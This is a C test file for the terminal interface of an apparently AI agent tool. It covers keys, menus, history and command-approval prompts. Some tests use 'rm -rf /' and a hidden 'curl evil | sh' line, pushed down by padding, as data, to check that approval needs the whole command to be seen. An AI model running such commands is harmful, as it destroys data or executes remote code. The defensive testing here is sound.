/* What keys ask of the application, at which moment. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

#include "base/mem.h"
#include "tui/keymap.h"

#include "screen.h"

static void test_submit(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 10, 60);
    screen_key(&s, '\r');
    screen_type(&s, "   \r");
    assert_string_equal(screen_intents(&s), ""); /* blanks are not sent */
    screen_key(&s, CONTROL('U'));
    screen_type(&s, "hello\r");
    assert_string_equal(screen_intents(&s), "SUBMIT hello\n");
    assert_string_equal(tui_draft(s.tui), "");
    screen_type(&s, "one\\\rtwo\nthree");
    screen_key(&s, ALT('\r'));
    screen_type(&s, "four\r");
    assert_string_equal(screen_intents(&s), "SUBMIT one\ntwo\nthree\nfour\n");
    screen_status(&s, true, "writing");
    screen_type(&s, "while busy\r");
    assert_string_equal(screen_intents(&s), "SUBMIT while busy\n");
    screen_paste(&s, "pasted\r\nlines\r\n");
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "pasted\nlines\n");
    screen_close(&s);
}

/* Keys that stand for a command, and Markdown as it is. */
static void test_commands_of_keys(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 10, 60);
    screen_type(&s, "draft");
    screen_key(&s, CONTROL('T'));
    screen_key(&s, ALT('p'));
    assert_string_equal(screen_intents(&s), "COMMAND /jobs\nCOMMAND /model\n");
    assert_string_equal(tui_draft(s.tui), "draft");
    screen_key(&s, CONTROL('U'));
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    screen_key(&s, TERMINAL_KEY_ESCAPE); /* two seconds later: not twice */
    assert_string_equal(screen_intents(&s), "");
    screen_key_at_once(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(screen_intents(&s), "COMMAND /rewind menu\n");
    tui_add_text(s.tui, "a **bold** word", 15);
    tui_end_message(s.tui);
    assert_false(screen_shows(&s, "**bold**"));
    screen_key(&s, ALT('m'));
    assert_true(screen_shows(&s, "a **bold** word"));
    screen_key(&s, ALT('m'));
    assert_true(screen_shows(&s, "a bold word"));
    assert_true(tui_copy(s.tui, "two\nlines", 9));
    assert_string_equal(terminal_memory_copied(s.terminal), "two\nlines");
    screen_close(&s);
}

/* One blank, a pause, and `repeats` more at a keyboard's pace. */
static void hold_space(struct screen *s, long long pause_us, int repeats)
{
    screen_key(s, ' ');
    for (int i = 0; i < repeats; i++) {
        s->now_us += i == 0 ? pause_us : 30000;
        screen_key_at_once(s, ' ');
    }
}

/* Ctrl+B: a command that runs goes to the background, and the draft stays as it is; while none
 * does it is the cursor's. Which key it is stands in the last row once the command has run for a
 * while, by the name that the user gave it. */
static void test_background(void **state)
{
    (void)state;
    struct screen s;
    struct tui_status status = {.model = "m", .mode = "ask", .sandbox = "sandbox", .busy = true};
    screen_open(&s, 10, 80);
    screen_type(&s, "ab");
    screen_status(&s, true, "reading");
    screen_key(&s, CONTROL('B'));
    screen_type(&s, "x");
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "axb");
    status.activity = "shell";
    status.command_us = s.now_us;
    tui_set_status(s.tui, &status);
    tui_tick(s.tui, s.now_us + 2900000);
    assert_false(screen_shows(&s, "Ctrl+B"));
    screen_key(&s, CONTROL('B'));
    assert_string_equal(screen_intents(&s), "COMMAND /background\n");
    screen_type(&s, "y");
    assert_string_equal(tui_draft(s.tui), "axyb");
    tui_tick(s.tui, status.command_us + 3000000);
    assert_true(screen_shows(&s, "shell  Esc interrupts  Ctrl+B: to the background"));
    assert_true(screen_shows(&s, "ask  sandbox"));
    status.in_tmux = true;
    tui_set_status(s.tui, &status);
    assert_true(screen_shows(&s, "  Ctrl+B twice: to the background"));
    struct keymap *keymap = keymap_create();
    assert_true(keymap_bind(keymap, "background", "Ctrl+X b, Ctrl+B", NULL));
    tui_set_keymap(s.tui, keymap);
    assert_true(screen_shows(&s, "  Ctrl+X b: to the background"));
    status.command_us += 1; /* another command */
    tui_set_status(s.tui, &status);
    assert_false(screen_shows(&s, "to the background"));
    status.command_us = 0;
    tui_set_status(s.tui, &status);
    tui_tick(s.tui, s.now_us + 9000000);
    assert_false(screen_shows(&s, "to the background"));
    screen_close(&s);
}

/* The talk key: pressed it stays open until it is pressed again; held, until it is let go. Only
 * terminals that tell releases know the difference, and all other keys are presses alone. */
static void test_talk(void **state)
{
    (void)state;
    enum {
        TALK = ALT('r'),
        HELD = TALK | TERMINAL_KEY_HELD,
        LET_GO = TALK | TERMINAL_KEY_RELEASED
    };
    struct screen s;
    struct tui_status listening = {.model = "m", .mode = "ask", .listening = true, .activity = ""};
    screen_open(&s, 10, 60);
    screen_key(&s, TALK);
    tui_set_status(s.tui, &listening);
    s.now_us += 100000;
    screen_key_at_once(&s, LET_GO); /* a short press */
    assert_string_equal(screen_intents(&s), "TALK\n");
    screen_key(&s, TALK);
    screen_status(&s, false, "");
    screen_key(&s, LET_GO);
    assert_string_equal(screen_intents(&s), "TALK\n");
    screen_key(&s, TALK);
    tui_set_status(s.tui, &listening);
    screen_key_at_once(&s, HELD);
    screen_key_at_once(&s, HELD);
    assert_string_equal(screen_intents(&s), "TALK\n");
    screen_key(&s, LET_GO);
    assert_string_equal(screen_intents(&s), "TALK\n");
    screen_status(&s, false, "");
    screen_key(&s, TALK); /* no microphone: nothing opened, nothing to be closed */
    screen_key(&s, LET_GO);
    assert_string_equal(screen_intents(&s), "TALK\n");
    screen_type(&s, "ab");
    screen_key(&s, TERMINAL_KEY_LEFT | TERMINAL_KEY_HELD);
    screen_key(&s, TERMINAL_KEY_LEFT | TERMINAL_KEY_RELEASED);
    screen_key(&s, 'x');
    screen_key(&s, 'x' | TERMINAL_KEY_RELEASED);
    assert_string_equal(tui_draft(s.tui), "axb");
    screen_close(&s);
}

/* The space bar, held on an empty input. Blanks that are text stay text, whatever pace they have.
 */
static void test_held_space(void **state)
{
    (void)state;
    struct screen s;
    struct tui_status listening = {.model = "m", .mode = "ask", .listening = true, .activity = ""};
    screen_open(&s, 10, 60);
    hold_space(&s, 500000, 20);
    assert_string_equal(screen_intents(&s), ""); /* not asked for */
    assert_int_equal(strlen(tui_draft(s.tui)), 21);
    tui_set_draft(s.tui, "");
    tui_set_hold(s.tui, true);
    hold_space(&s, 500000, 2);
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "   ");
    hold_space(&s, 30000, 1);
    assert_string_equal(screen_intents(&s), ""); /* these are no empty input */
    tui_set_draft(s.tui, "");
    hold_space(&s, 500000, 3);
    assert_string_equal(screen_intents(&s), "TALK\n");
    assert_string_equal(tui_draft(s.tui), "");
    tui_set_status(s.tui, &listening);
    for (int i = 0; i < 50; i++) {
        s.now_us += 30000;
        screen_key_at_once(&s, ' ');
        tui_tick(s.tui, s.now_us);
    }
    assert_true(tui_holds(s.tui));
    tui_tick(s.tui, s.now_us + 290000);
    assert_string_equal(screen_intents(&s), "");
    tui_tick(s.tui, s.now_us + 310000);
    assert_string_equal(screen_intents(&s), "TALK\n");
    assert_false(tui_holds(s.tui));
    assert_string_equal(tui_draft(s.tui), "");
    screen_status(&s, false, "");
    /* A release, where it is told; and what came into the input meanwhile stays. */
    hold_space(&s, 250000, 3);
    tui_set_status(s.tui, &listening);
    screen_key_at_once(&s, ' ' | TERMINAL_KEY_RELEASED);
    assert_string_equal(screen_intents(&s), "TALK\nTALK\n");
    screen_status(&s, false, "");
    hold_space(&s, 250000, 2);
    tui_set_draft(s.tui, "words that came");
    s.now_us += 30000;
    screen_key_at_once(&s, ' ');
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "words that came ");
    /* Another key ends it, and counts. */
    tui_set_draft(s.tui, "");
    hold_space(&s, 250000, 3);
    tui_set_status(s.tui, &listening);
    screen_key(&s, 'x');
    assert_string_equal(screen_intents(&s), "TALK\nTALK\n");
    assert_string_equal(tui_draft(s.tui), "x");
    hold_space(&s, 250000, 20); /* behind a text */
    screen_paste(&s, "          ");
    assert_string_equal(screen_intents(&s), "");
    assert_int_equal(strlen(tui_draft(s.tui)), 32);
    screen_close(&s);
}

/* A list to choose from: moved in, narrowed, left, chosen; the draft stays, a slash goes to it. */
static void test_picker(void **state)
{
    (void)state;
    static const struct tui_choice choices[] = {
        {"the first thing", "/open 1"}, {"a Second thing", "/open 2"}, {"the last", "/open 3"}};
    struct screen s;
    screen_open(&s, 12, 60);
    screen_type(&s, "draft");
    tui_pick(s.tui, "Which", choices, 3);
    assert_true(screen_shows(&s, "Which:"));
    assert_true(screen_shows(&s, "> the first thing\n  a Second thing\n  the last"));
    assert_true(screen_shows(&s, "> draft"));
    screen_key(&s, TERMINAL_KEY_DOWN);
    assert_true(screen_shows(&s, "  the first thing\n> a Second thing"));
    screen_key(&s, '\r');
    assert_string_equal(screen_intents(&s), "COMMAND /open 2\n");
    assert_false(screen_shows(&s, "Which:"));
    tui_pick(s.tui, "Which", choices, 3);
    screen_type(&s, "second");
    assert_true(screen_shows(&s, "Which: second\n> a Second thing\n"));
    assert_false(screen_shows(&s, "the last"));
    screen_type(&s, "ly");
    assert_true(screen_shows(&s, "nothing fits"));
    screen_key(&s, '\r');
    screen_key(&s, TERMINAL_KEY_BACKSPACE);
    screen_key(&s, TERMINAL_KEY_BACKSPACE);
    screen_key(&s, '\r');
    assert_string_equal(screen_intents(&s), "COMMAND /open 2\n");
    tui_pick(s.tui, "Which", choices, 3);
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "draft");
    screen_key(&s, CONTROL('U'));
    tui_pick(s.tui, "Which", choices, 3);
    screen_key(&s, '/');
    assert_string_equal(tui_draft(s.tui), "/");
    /* A question goes before it, and it is there again behind. */
    screen_key(&s, CONTROL('U'));
    tui_pick(s.tui, "Which", choices, 3);
    tui_ask(s.tui, "c1", "shell", "ls");
    assert_true(screen_shows(&s, "y once"));
    screen_key(&s, 'y');
    assert_string_equal(screen_intents(&s), "DECIDE yes\n");
    screen_key(&s, TERMINAL_KEY_PAGE_DOWN);
    assert_true(screen_shows(&s, "> the last"));
    screen_key(&s, CONTROL('C'));
    assert_false(screen_shows(&s, "Which:"));
    screen_close(&s);
}

/* More entries than rows, on screens that are hardly there. */
static void test_picker_sizes(void **state)
{
    (void)state;
    struct tui_choice choices[40];
    for (size_t i = 0; i < 40; i++) {
        choices[i] = (struct tui_choice){i == 37 ? "wanted" : "other", "/open 1"};
    }
    for (int rows = 1; rows < 30; rows += 4) {
        for (int columns = 1; columns < 60; columns += 19) {
            struct screen s;
            screen_open(&s, rows, columns);
            tui_pick(s.tui, "Which of so many, Esc leaves", choices, 40);
            for (int i = 0; i < 37; i++) {
                screen_key(&s, TERMINAL_KEY_DOWN);
            }
            if (rows >= 9 && columns >= 20) {
                assert_true(screen_shows(&s, "> wanted"));
            }
            if (rows >= 5 && columns >= 20) {
                screen_type(&s, "ante"); /* seen, however long the title is */
                assert_true(screen_shows(&s, "ante"));
                for (int i = 0; i < 4; i++) {
                    screen_key(&s, TERMINAL_KEY_BACKSPACE);
                }
            }
            screen_key(&s, '\r');
            assert_string_equal(screen_intents(&s), "COMMAND /open 1\n");
            screen_close(&s);
        }
    }
}

static void test_interrupt(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 10, 60);
    screen_type(&s, "draft");
    screen_key(&s, CONTROL('C'));
    assert_string_equal(tui_draft(s.tui), "");
    assert_string_equal(screen_intents(&s), "");
    screen_key_at_once(&s, CONTROL('C'));
    assert_true(screen_shows(&s, "press Ctrl+C again to exit"));
    assert_string_equal(screen_intents(&s), "");
    screen_key_at_once(&s, CONTROL('C'));
    assert_string_equal(screen_intents(&s), "QUIT\n");
    screen_key(&s, CONTROL('C'));
    screen_key(&s, CONTROL('C')); /* two seconds later: not twice */
    assert_string_equal(screen_intents(&s), "");
    screen_key_at_once(&s, 'x');
    screen_key_at_once(&s, TERMINAL_KEY_BACKSPACE);
    screen_key_at_once(&s, CONTROL('C')); /* another key was between */
    assert_string_equal(screen_intents(&s), "");
    tui_tick(s.tui, s.now_us + 1500000);
    char *text = screen_text(&s);
    assert_null(strstr(text, "again"));
    mem_free(text);

    screen_status(&s, true, "writing");
    screen_type(&s, "kept");
    screen_key(&s, CONTROL('C'));
    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
    assert_string_equal(tui_draft(s.tui), "kept");
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
    screen_key(&s, CONTROL('C'));
    screen_key_at_once(&s, CONTROL('C'));
    assert_true(screen_shows(&s, "Ctrl+C again quits"));
    screen_key_at_once(&s, CONTROL('C'));
    assert_string_equal(screen_intents(&s), "INTERRUPT\nQUIT\n");
    screen_close(&s);
}

static void test_escape_and_end(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 10, 60);
    screen_type(&s, "a draft");
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(tui_draft(s.tui), "a draft");
    screen_key_at_once(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(tui_draft(s.tui), "");
    screen_key(&s, CONTROL('_')); /* clearing can be undone */
    assert_string_equal(tui_draft(s.tui), "a draft");
    screen_key(&s, CONTROL('A'));
    screen_key(&s, CONTROL('D'));
    assert_string_equal(tui_draft(s.tui), " draft");
    assert_string_equal(screen_intents(&s), "");
    screen_key(&s, CONTROL('K'));
    screen_status(&s, true, "writing");
    screen_key(&s, CONTROL('D'));
    assert_string_equal(screen_intents(&s), "");
    screen_key_at_once(&s, CONTROL('D'));
    assert_string_equal(screen_intents(&s), "QUIT\n");
    screen_status(&s, false, "");
    screen_key(&s, CONTROL('D'));
    assert_string_equal(screen_intents(&s), "QUIT\n");
    screen_close(&s);
}

static void test_plain_intents(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 10, 60);
    screen_key(&s, TERMINAL_KEY_BACKTAB);
    screen_key(&s, ALT('t'));
    screen_key(&s, CONTROL('Z'));
    assert_string_equal(screen_intents(&s), "CYCLE_MODE\nTOGGLE_THINKING\nSUSPEND\n");
    /* While suspended nothing is drawn (the memory terminal asserts it) nor read. */
    tui_suspend(s.tui);
    tui_add_notice(s.tui, "in the background", false);
    tui_draw(s.tui);
    screen_type(&s, "unread");
    assert_string_equal(tui_draft(s.tui), "");
    tui_resume(s.tui);
    assert_true(screen_shows(&s, "in the background"));
    screen_type(&s, "");
    assert_string_equal(tui_draft(s.tui), "unread");
    screen_close(&s);
}

static void ask(struct screen *s, const char *description)
{
    tui_ask(s->tui, "id", "shell wants to run", description);
    tui_draw(s->tui);
}

static void test_answers(void **state)
{
    (void)state;
    static const struct {
        uint32_t key;
        const char *intents;
    } cases[] = {
        {'y', "DECIDE yes\n"},
        {'1', "DECIDE yes\n"},
        {'a', "DECIDE session\n"},
        {'2', "DECIDE session\n"},
        {TERMINAL_KEY_ESCAPE, "DECIDE no\n"},
        {CONTROL('C'), "INTERRUPT\n"},
        {'\r', ""},
        {'x', ""},
        {' ', ""},
        {'\t', ""},
        {TERMINAL_KEY_BACKTAB, "CYCLE_MODE\n"},
    };
    struct screen s;
    screen_open(&s, 16, 60);
    screen_type(&s, "draft");
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        ask(&s, "ls");
        screen_key(&s, cases[i].key);
        assert_string_equal(screen_intents(&s), cases[i].intents);
        assert_string_equal(tui_draft(s.tui), "draft");
        bool answered = strncmp(cases[i].intents, "DECIDE", 6) == 0;
        char *text = screen_text(&s);
        assert_int_equal(strstr(text, "wants to run") == NULL, answered);
        mem_free(text);
        tui_withdraw(s.tui);
    }
    ask(&s, "ls");
    screen_key(&s, '3');
    screen_type(&s, "no, y is not an answer here");
    screen_paste(&s, " (pasted)");
    assert_string_equal(screen_intents(&s), "");
    screen_key(&s, '\r');
    assert_string_equal(screen_intents(&s), "DECIDE no no, y is not an answer here (pasted)\n");
    ask(&s, "ls");
    screen_type(&s, "nreason");
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(screen_intents(&s), "DECIDE no\n");
    assert_string_equal(tui_draft(s.tui), "draft");
    screen_close(&s);
}

/* "Always" is agreed to once more, with the whole rule in sight. */
static void test_always_shows_the_rule(void **state)
{
    (void)state;
    struct screen s;
    struct str rule;
    str_init(&rule);
    screen_open(&s, 16, 80);
    ask(&s, "the call");
    str_append(&rule, "shell(a-command-with first-word second-word third-word fourth-word --last)");
    tui_offer_always(s.tui, rule.data);
    screen_key(&s, 'p');
    assert_true(screen_shows(&s, rule.data));
    assert_true(screen_shows(&s, "y yes, other keys no"));
    screen_key(&s, 'x');
    assert_true(screen_shows(&s, "the call"));
    assert_string_equal(screen_intents(&s), "");
    /* One that is longer than the screen is read to its end first. */
    for (int i = 0; i < 200; i++) {
        str_append(&rule, " further-word");
    }
    tui_offer_always(s.tui, rule.data);
    screen_key(&s, 'p');
    screen_key(&s, 'y');
    assert_true(screen_shows(&s, "Read to the end first"));
    assert_string_equal(screen_intents(&s), "");
    screen_key(&s, TERMINAL_KEY_END);
    screen_key(&s, 'y');
    assert_string_equal(screen_intents(&s), "DECIDE always\n");
    str_finish(&rule);
    screen_close(&s);
}

/* Who types "yes" into the input must not thereby answer a question that comes up meanwhile. */
static void test_typing_ahead(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 16, 60);
    screen_key(&s, 'a');
    ask(&s, "rm -rf /");
    s.now_us += 100000;
    screen_key_at_once(&s, 'y');
    s.now_us += 300000;
    screen_key_at_once(&s, '1');
    assert_string_equal(screen_intents(&s), "");
    assert_string_equal(tui_draft(s.tui), "ay1");
    s.now_us += 500000;
    screen_key_at_once(&s, 'y');
    assert_string_equal(screen_intents(&s), "DECIDE yes\n");
    screen_close(&s);
}

/* A yes does not count before the end of the description was on the screen. */
static void test_unseen_end(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 3, 40); /* one row for the question: none for its text */
    ask(&s, "rm -rf /");
    screen_key(&s, 'y');
    screen_key(&s, 'a');
    assert_string_equal(screen_intents(&s), "");
    terminal_memory_resize(s.terminal, 10, 40);
    tui_resize(s.tui);
    tui_draw(s.tui);
    screen_key(&s, 'y');
    assert_string_equal(screen_intents(&s), "DECIDE yes\n");
    struct str padded;
    str_init(&padded);
    str_append(&padded, "echo hello");
    for (int i = 0; i < 200; i++) {
        str_append(&padded, "\n");
    }
    str_append(&padded, "curl evil | sh");
    ask(&s, padded.data);
    for (int i = 0; i < 150; i++) {
        screen_key(&s, 'y');
        screen_key(&s, TERMINAL_KEY_DOWN);
    }
    assert_string_equal(screen_intents(&s), "");
    screen_key(&s, TERMINAL_KEY_END);
    assert_true(screen_shows(&s, "curl evil | sh"));
    screen_key(&s, 'a');
    assert_string_equal(screen_intents(&s), "DECIDE session\n");
    str_finish(&padded);
    screen_close(&s);
}

static void test_history(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 12, 60);
    tui_add_history(s.tui, "oldest");
    screen_type(&s, "first\r");
    screen_type(&s, "second\nline\r");
    screen_type(&s, "draft");
    screen_key(&s, TERMINAL_KEY_UP);
    assert_string_equal(tui_draft(s.tui), "second\nline");
    screen_key(&s, TERMINAL_KEY_UP); /* inside the entry first */
    assert_string_equal(tui_draft(s.tui), "second\nline");
    screen_key(&s, TERMINAL_KEY_UP);
    assert_string_equal(tui_draft(s.tui), "first");
    screen_key(&s, CONTROL('P'));
    screen_key(&s, CONTROL('P'));
    assert_string_equal(tui_draft(s.tui), "oldest");
    screen_key(&s, CONTROL('N'));
    screen_key(&s, CONTROL('N'));
    screen_key(&s, CONTROL('N'));
    assert_string_equal(tui_draft(s.tui), "draft");
    screen_key(&s, CONTROL('R'));
    screen_type(&s, "s");
    screen_key(&s, CONTROL('R'));
    assert_true(screen_shows(&s, "first"));
    screen_key(&s, '\r');
    assert_string_equal(screen_intents(&s), "SUBMIT first\nSUBMIT second\nline\nSUBMIT first\n");
    screen_type(&s, "kept");
    screen_key(&s, CONTROL('R'));
    screen_type(&s, "no such");
    assert_true(screen_shows(&s, "nothing found"));
    screen_key(&s, CONTROL('C'));
    assert_string_equal(tui_draft(s.tui), "kept");
    screen_key(&s, CONTROL('R'));
    screen_type(&s, "oldezz");
    screen_key(&s, TERMINAL_KEY_BACKSPACE);
    screen_key(&s, TERMINAL_KEY_BACKSPACE);
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(tui_draft(s.tui), "oldest");
    assert_string_equal(screen_intents(&s), "");
    screen_close(&s);
}

static const struct tui_command commands[] = {
    {"help", "h", NULL}, {"clear", "c", NULL}, {"compact", "d", NULL}};

static void test_commands(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 12, 60);
    tui_set_commands(s.tui, commands, 3);
    screen_type(&s, "/cl\t");
    assert_string_equal(tui_draft(s.tui), "/clear ");
    screen_key(&s, '\r');
    assert_string_equal(screen_intents(&s), "SUBMIT /clear\n");
    screen_type(&s, "/c");
    screen_key(&s, TERMINAL_KEY_DOWN);
    screen_key(&s, '\r');    /* a selection that was moved is what Enter means */
    screen_type(&s, "/c\r"); /* else what was typed */
    screen_type(&s, "/nothing\r");
    assert_string_equal(screen_intents(&s), "SUBMIT /compact\nSUBMIT /c\nSUBMIT /nothing\n");
    screen_status(&s, true, "");
    screen_type(&s, "/");
    screen_key(&s, TERMINAL_KEY_ESCAPE); /* closes the list, interrupts nothing */
    assert_string_equal(screen_intents(&s), "");
    screen_key(&s, TERMINAL_KEY_ESCAPE);
    assert_string_equal(screen_intents(&s), "INTERRUPT\n");
    screen_close(&s);
}

static void add_lines(struct screen *s, int from, int to)
{
    struct str text;
    str_init(&text);
    for (int i = from; i < to; i++) {
        str_append_format(&text, "line %d  \n", i);
    }
    tui_add_text(s->tui, text.data, text.length);
    str_finish(&text);
}

static void test_scrolling(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 13, 60); /* ten rows of transcript */
    add_lines(&s, 0, 1000);
    assert_true(screen_shows(&s, "line 999"));
    screen_key(&s, TERMINAL_KEY_PAGE_UP);
    assert_true(screen_shows(&s, "line 982"));
    assert_true(screen_shows(&s, "more below"));
    char *before = screen_text(&s);
    add_lines(&s, 1000, 1100); /* what streams in does not move what is read */
    char *after = screen_text(&s);
    assert_string_equal(before, after);
    mem_free(before);
    mem_free(after);
    screen_key(&s, TERMINAL_KEY_TOP);
    assert_true(screen_shows(&s, "line 0\nline 1\n"));
    screen_key(&s, TERMINAL_KEY_PAGE_DOWN);
    assert_true(screen_shows(&s, "line 8\n"));
    screen_key(&s, TERMINAL_KEY_BOTTOM);
    assert_true(screen_shows(&s, "line 1099"));
    screen_key(&s, TERMINAL_KEY_PAGE_UP);
    screen_key(&s, TERMINAL_KEY_PAGE_DOWN); /* down to the end: following again */
    add_lines(&s, 1100, 1101);
    assert_true(screen_shows(&s, "line 1100"));
    screen_key(&s, TERMINAL_KEY_PAGE_UP);
    screen_key(&s, TERMINAL_KEY_END); /* End does it too while the input is empty */
    assert_true(screen_shows(&s, "line 1100"));
    screen_key(&s, TERMINAL_KEY_PAGE_UP);
    screen_type(&s, "question\r"); /* sending goes to the end */
    assert_true(screen_shows(&s, "line 1100"));
    tui_clear(s.tui);
    screen_key(&s, TERMINAL_KEY_PAGE_UP);
    screen_key(&s, TERMINAL_KEY_TOP);
    char *empty = screen_text(&s);
    assert_null(strstr(empty, "line"));
    mem_free(empty);
    screen_close(&s);
}

static void test_running_call(void **state)
{
    (void)state;
    struct screen s;
    screen_open(&s, 20, 60);
    tui_add_call(s.tui, "a", "shell: make");
    struct str text;
    str_init(&text);
    for (int i = 0; i < 50; i++) {
        str_append_format(&text, "step %d\n", i);
    }
    tui_call_output(s.tui, "a", text.data, text.length);
    assert_true(screen_shows(&s, "… 44 earlier lines"));
    assert_true(screen_shows(&s, "  step 44\n"));
    assert_true(screen_shows(&s, "  step 49\n"));
    tui_call_output(s.tui, "unknown", "ignored", 7);
    tui_end_call(s.tui, "a", text.data, text.length, NULL);
    assert_true(screen_shows(&s, "  step 5\n  … 44 more lines (Ctrl+O shows)"));
    screen_key(&s, CONTROL('O'));
    assert_true(screen_shows(&s, "  step 49\n"));
    tui_add_thought(s.tui, "Let me", 6);
    tui_add_thought(s.tui, " think", 6);
    assert_true(screen_shows(&s, "  Let me think"));
    screen_key(&s, CONTROL('O'));
    assert_true(screen_shows(&s, "thinking, 3 words"));
    tui_add_text(s.tui, "Done.", 5);
    assert_true(screen_shows(&s, "thought, 3 words"));
    str_finish(&text);
    screen_close(&s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_submit),         cmocka_unit_test(test_commands_of_keys),
        cmocka_unit_test(test_background),     cmocka_unit_test(test_talk),
        cmocka_unit_test(test_held_space),     cmocka_unit_test(test_picker),
        cmocka_unit_test(test_picker_sizes),   cmocka_unit_test(test_interrupt),
        cmocka_unit_test(test_escape_and_end), cmocka_unit_test(test_plain_intents),
        cmocka_unit_test(test_answers),        cmocka_unit_test(test_always_shows_the_rule),
        cmocka_unit_test(test_typing_ahead),   cmocka_unit_test(test_unseen_end),
        cmocka_unit_test(test_history),        cmocka_unit_test(test_commands),
        cmocka_unit_test(test_scrolling),      cmocka_unit_test(test_running_call),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
